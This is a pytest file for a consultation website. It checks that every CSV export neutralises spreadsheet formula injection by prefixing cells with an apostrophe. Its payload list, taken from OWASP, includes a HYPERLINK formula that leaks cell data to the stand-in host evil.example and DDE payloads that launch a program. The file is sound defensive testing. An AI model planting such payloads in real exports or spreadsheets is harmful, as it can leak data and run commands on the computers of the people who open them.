"""Every CSV the site writes shows formulas as text (OWASP's CSV injection payloads)."""

import csv
import io

import pytest
from wagtail.rich_text import RichText

from consultation.discussion.services import comment_post
from consultation.downloads import csv_safe
from consultation.feedback.models import Outcome
from consultation.feedback.services import response_record
from consultation.versions.models import ClauseSnapshot
from consultation.voting.models import ResultsVisibility, Vote
from tests.consultation.feedback.export_helpers import csv_rows, export_urls
from tests.factories import GuidancePageFactory, ParticipantFactory

# From OWASP's "CSV Injection" page, plus the cells the review reproduced.
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
    "=cmd|' /C calc'!A0",
    "=1+2",
    "+1+2",
    "-1+2",
    "@SUM(1+2)",
    "\t=1+2",
    "\r=1+2",
    "=2+5+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
]


def shown_as_text(cell: str, payload: str) -> bool:
    return cell == "'" + payload


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_formula_cell_is_prefixed_so_it_reads_as_text(payload):
    assert csv_safe(payload) == "'" + payload


@pytest.mark.parametrize("value", ["Plain words", "a=b", "", 12, -3, None])
def test_ordinary_cells_and_numbers_are_left_alone(value):
    assert csv_safe(value) == value


def test_the_comments_export_neutralises_text_names_and_rationales(client, guidance, editor):
    names = [f"{payload[:30]} {n}" for n, payload in enumerate(PAYLOADS)]
    for payload, name in zip(PAYLOADS, names, strict=True):
        author = ParticipantFactory()
        # The display name is stored as the review's reproduction did, bypassing the
        # sign-up form (which refuses some of these): the export must hold regardless.
        author.display_name = name
        author.save()
        comment = comment_post(
            participant=author, page=guidance, clause_id="", parent=None, text=payload
        )
        response_record(editor=editor, comment=comment, outcome=Outcome.NOTED, rationale=payload)
    client.force_login(editor)

    header, *rows = csv_rows(client.get(export_urls(guidance)[0]))
    rationale = header.index("rationale")

    assert len(rows) == len(PAYLOADS)
    for row, payload, name in zip(rows, PAYLOADS, names, strict=True):
        assert shown_as_text(row[7], name)
        assert shown_as_text(row[8], payload)
        assert shown_as_text(row[rationale], payload.strip())  # the service trims rationales


def test_the_votes_export_neutralises_every_text_cell(client, guidance, editor):
    snapshot = ClauseSnapshot.objects.filter(version=guidance.current_version).first()
    payload = "=cmd|' /C calc'!A0"  # fits the perspective column
    Vote.objects.create(snapshot=snapshot, choice=1, perspectives=payload)
    client.force_login(editor)

    rows = csv_rows(client.get(export_urls(guidance)[1]))

    assert shown_as_text(rows[1][3], payload)
    assert rows[1][2] == "1"


def test_the_results_csv_neutralises_an_editors_heading_and_proposition(client, guidance_index):
    heading, proposition = PAYLOADS[1], PAYLOADS[0]
    body = [
        (
            "clause",
            {
                "heading": heading,
                "body": RichText("<p>Body.</p>"),
                "proposition": proposition,
                "plain_summary": "",
            },
        )
    ]
    page = GuidancePageFactory(
        parent=guidance_index, body=body, results_visibility=ResultsVisibility.ALWAYS
    )
    snapshot = page.current_version.clauses.get()
    Vote.objects.bulk_create(Vote(snapshot=snapshot, choice=1, perspectives="") for _ in range(6))

    response = client.get(f"{page.url}results/csv/")
    text = b"".join(response.streaming_content).decode()
    rows = list(csv.reader(io.StringIO(text)))

    assert shown_as_text(rows[1][2], heading)
    assert shown_as_text(rows[1][3], proposition)
